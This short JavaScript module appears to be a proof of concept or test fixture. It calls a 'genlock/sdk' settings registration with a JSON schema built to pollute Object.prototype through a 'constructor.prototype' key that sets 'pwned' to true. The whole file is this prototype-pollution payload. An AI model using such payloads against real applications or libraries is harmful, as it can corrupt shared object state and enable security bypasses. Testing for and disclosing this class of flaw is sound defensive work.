import * as sdk from 'genlock/sdk';

export default async function generate() {
  sdk.registerSettings({ schema: JSON.parse('{"constructor":{"prototype":{"pwned":true}}}') });
}
